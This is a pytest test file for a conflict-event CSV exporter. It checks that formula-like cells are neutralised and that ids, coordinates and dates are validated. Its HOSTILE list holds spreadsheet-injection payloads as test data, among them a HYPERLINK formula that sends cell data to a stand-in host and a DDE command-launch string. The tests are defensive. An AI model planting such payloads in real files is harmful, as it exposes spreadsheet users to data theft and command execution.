"""CSV for other programs: no cell runs as a spreadsheet formula, ids survive a round trip."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from geo.build import format_report
from geo.errors import Problem
from geo.extract import events_to_csv, read_events, write_events
from geo.io import csv_cell, csv_text, csv_value
from geo.models import Event, join_ids, split_ids
from geo.territory import StatRow, format_stats_csv

HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\tleading tab",
    "\rleading return",
    "'=already quoted",
    "''-twice quoted",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_quote_and_come_back(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value
    assert csv_value(cell) == value


@pytest.mark.parametrize("value", ["", "al-Bab", "'Ayn al-Arab", "-3.5", "+12", "1e-3", "a=b",
                                   "36.2", "'", "''"])
def test_plain_cells_and_numbers_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_value(value) == value


def test_csv_text_neutralises_every_cell() -> None:
    assert csv_text([("a", "b"), ("=1+1", None), (-4, "@x")]) == "a,b\n'=1+1,\n-4,'@x\n"


def event(sentence: str, doc_ids: tuple[str, ...]) -> Event:
    return Event(
        event_id="e1", date=date(2017, 3, 1), date_precision="day", place="=Tabqa",
        place_id="sy-tabqa", lat=35.83, lon=38.55, controller="sdf", previous_controller="is",
        kind="capture", confidence=0.8, doc_ids=doc_ids, sentence=sentence,
    )


def test_events_file_neutralises_formulas_and_reads_them_back(tmp_path: Path) -> None:
    original = event("-Fighters said they took the dam town.", ("wire;1", "a\\b", "plain"))
    text = events_to_csv([original])
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["place"], row["sentence"], row["doc_id"]) == (
        "'=Tabqa", "'-Fighters said they took the dam town.", "wire\\;1;a\\\\b;plain"
    )
    path = tmp_path / "events.csv"
    write_events([original], path)
    assert read_events(path) == [original]


def test_report_and_stats_neutralise_formulas() -> None:
    report = format_report([Problem("=cmd.txt", 3, "title", "@bad")])
    assert report == "file,line,field,message\n'=cmd.txt,3,title,'@bad\n"
    stats = format_stats_csv([StatRow(date(2017, 1, 1), "is", 12.0, 0.5, 3, "SY")])
    assert stats.splitlines()[1] == "2017-01-01,SY,is,12.0,0.5000,3"


@pytest.mark.parametrize("ids", [("a",), ("a;b", "c"), ("x\\", ";", "\\;y"), ("a", "b", "c")])
def test_document_ids_round_trip(ids: tuple[str, ...]) -> None:
    assert split_ids(join_ids(ids)) == ids


def test_document_ids_without_separators_are_written_as_they_are() -> None:
    assert join_ids(["wire-1", "bbc-2"]) == "wire-1;bbc-2"
    assert split_ids("wire-1;;bbc-2;") == ("wire-1", "bbc-2")


HEADER = ("event_id,date,date_precision,place,place_id,lat,lon,controller,previous_controller,"
          "kind,confidence,doc_id,sentence\n")


@pytest.mark.parametrize(("lat", "lon", "message"), [
    ("nan", "38.1", "lat: out of range [-90, 90]: nan"),
    ("36.1", "inf", "lon: out of range [-180, 180]: inf"),
    ("91", "38.1", "lat: out of range [-90, 90]: 91"),
    ("36.1", "-180.5", "lon: out of range [-180, 180]: -180.5"),
    ("36.1", "", "lon: missing while the other coordinate is given"),
    ("", "x", "lon: not a number: 'x'"),
])
def test_events_file_with_a_bad_coordinate_names_file_line_and_field(
    tmp_path: Path, lat: str, lon: str, message: str
) -> None:
    from geo.errors import EventsFileError

    path = tmp_path / "events.csv"
    good = "e0,2017-03-01,day,Tabqa,,,,sdf,is,capture,0.8,d1,Taken.\n"
    path.write_text(HEADER + good + f"e1,2017-03-01,day,Tabqa,,{lat},{lon},sdf,is,capture,0.8,"
                    "d1,Taken.\n", encoding="utf-8")
    with pytest.raises(EventsFileError) as caught:
        read_events(path)
    assert str(caught.value) == f"{path}:3: {message}"


def test_a_carriage_return_inside_a_cell_is_quoted() -> None:
    assert csv_text([("id", "sentence"), ("e1", "Taken.\rAnd held."), ("e2", "ok")]) == (
        'id,sentence\n"e1","Taken.\rAnd held."\ne2,ok\n'
    )


@pytest.mark.parametrize(("day", "message"), [
    ("0001-01-01", "date: out of range (years 1900 to 2100): 0001-01-01"),
    ("9999-12-31", "date: out of range (years 1900 to 2100): 9999-12-31"),
])
def test_events_file_with_a_date_at_the_ends_of_the_calendar(
    tmp_path: Path, day: str, message: str
) -> None:
    from geo.errors import EventsFileError

    path = tmp_path / "events.csv"
    path.write_text(HEADER + f"e1,{day},day,Tabqa,,,,sdf,is,capture,0.8,d1,Taken.\n",
                    encoding="utf-8")
    with pytest.raises(EventsFileError) as caught:
        read_events(path)
    assert str(caught.value) == f"{path}:2: {message}"
